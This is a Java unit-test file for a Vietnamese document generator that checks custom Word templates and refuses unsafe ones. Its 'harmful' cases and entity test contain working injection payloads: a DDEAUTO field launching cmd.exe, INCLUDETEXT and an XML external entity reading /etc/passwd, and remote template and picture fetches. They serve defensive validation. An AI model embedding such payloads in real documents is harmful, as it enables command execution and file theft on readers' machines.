package vn.codau.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import vn.codau.documents.papers.PaperContent;
import vn.codau.documents.papers.PaperRequest;
import vn.codau.documents.papers.Templates;
import vn.codau.documents.sealed.Paper;
import vn.codau.documents.sealed.SealedSeason;
import vn.codau.documents.template.DocumentProblem;
import vn.codau.documents.template.DocumentSettings;

/** An office's own templates: used as they are, or refused with the reason. */
class TemplatesTests {

    private static final SealedSeason EXAMPLE = Sealed.example();

    @TempDir
    private Path folder;

    @ParameterizedTest
    @EnumSource(Paper.class)
    void everyTemplateShowsItsFieldsAndEveryFieldIsFilled(Paper paper) {
        var data = PaperContent.of(
                new PaperRequest(
                        EXAMPLE, Sealed.first(paper, EXAMPLE), Sealed.issue(paper, EXAMPLE), "https://a/check/b/c"),
                9_000);

        assertThat(data.fields()).isEqualTo(PaperContent.fields(paper).known());
    }

    @Test
    void usesTheOfficesOwnTemplate() throws IOException {
        own(WordFile.DOCUMENT, xml -> xml.replace("Kính gửi:", "Trân trọng kính gửi:"));

        assertThat(WordFile.of(word()).text()).contains("Trân trọng kính gửi: Hội đồng Thi đua - Khen thưởng");
    }

    @Test
    void findsAFieldThatWordHasCutIntoPieces() throws IOException {
        own(
                WordFile.DOCUMENT,
                xml -> xml.replace(
                        "{{ket_luan}}",
                        "{{ket</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>_lu</w:t></w:r><w:r><w:t>an}} Hết."));

        assertThat(WordFile.of(word()).text()).contains("chưa xác định đơn vị dẫn đầu", " Hết.");
    }

    @Test
    void namesAnUnknownField() throws IOException {
        own(WordFile.DOCUMENT, xml -> xml.replace("{{ket_luan}}", "{{ket_luan}} {{Tên giám đốc}}"));

        refused("documents.problem.template.unknown", "{{Tên giám đốc}}");
    }

    @Test
    void namesMissingFields() throws IOException {
        own(WordFile.DOCUMENT, xml -> xml.replace("{{bang_de_nghi}}", "").replace("{{co_quan}}", "KHỐI"));

        refused("documents.problem.template.missing", "{{bang_de_nghi}}, {{co_quan}}");
    }

    @Test
    void namesAFieldThatCannotBeFilledIn() throws IOException {
        own(
                WordFile.DOCUMENT,
                xml -> xml.replace(
                        "<w:t xml:space=\"preserve\">TỜ TRÌNH</w:t></w:r>",
                        "<w:t>TỜ TRÌNH</w:t></w:r><w:ins w:id=\"1\" w:author=\"a\"><w:r><w:t>{{dia_danh_2}}</w:t></w:r></w:ins>"));

        refused("documents.problem.template.unreachable", "{{dia_danh_2}}");
    }

    static Stream<Arguments> harmful() {
        return Stream.of(
                Arguments.of("word/header1.xml", " PAGE ", " DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" "),
                Arguments.of("word/header1.xml", " PAGE ", " INCLUDETEXT \"file:///etc/passwd\" "),
                Arguments.of("word/header1.xml", " PAGE ", " INCLUDEPICTURE \"http://a.example/x.png\" "),
                Arguments.of(
                        "word/_rels/document.xml.rels",
                        "</Relationships>",
                        "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "attachedTemplate\" Target=\"http://a.example/x.dotm\" TargetMode=\"External\"/>"
                                + "</Relationships>"),
                Arguments.of(
                        "[Content_Types].xml",
                        "wordprocessingml.settings+xml",
                        "wordprocessingml.settings.macroEnabled+xml"));
    }

    @ParameterizedTest
    @MethodSource("harmful")
    void refusesWhatIsMoreThanADocument(String part, String is, String instead) throws IOException {
        own(part, xml -> xml.replace(is, instead));

        assertThatExceptionOfType(DocumentProblem.class)
                .isThrownBy(this::word)
                .satisfies(problem -> assertThat(problem.key()).isEqualTo("documents.problem.template.notADocument"));
    }

    @Test
    void refusesAnEntityAndWhatIsNoWordFile() throws IOException {
        own(
                WordFile.DOCUMENT,
                xml -> xml.replace("<w:document", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><w:document")
                        .replace("TỜ TRÌNH", "&b;"));
        refused("documents.problem.template.damaged", "");

        Files.writeString(folder.resolve("cluster-letter.docx"), "{\\rtf1}");
        refused("documents.problem.template.damaged", "");
    }

    private void own(String part, UnaryOperator<String> change) throws IOException {
        var builtIn = new Templates(new DocumentSettings("", Optional.empty(), Optional.empty(), ""))
                .builtIn(Paper.CLUSTER_LETTER);
        Files.write(folder.resolve("cluster-letter.docx"), WordFile.changed(builtIn, part, change));
    }

    private byte[] word() {
        return Sealed.papers(Optional.of(folder.toString()))
                .word(
                        EXAMPLE,
                        Sealed.first(Paper.CLUSTER_LETTER, EXAMPLE),
                        Sealed.issue(Paper.CLUSTER_LETTER, EXAMPLE));
    }

    private void refused(String key, String names) {
        assertThatExceptionOfType(DocumentProblem.class).isThrownBy(this::word).satisfies(problem -> {
            assertThat(problem.key()).isEqualTo(key);
            assertThat(problem.arguments().getFirst()).isEqualTo("cluster-letter.docx");
            assertThat(problem.arguments().getLast().toString()).contains(names);
        });
    }
}
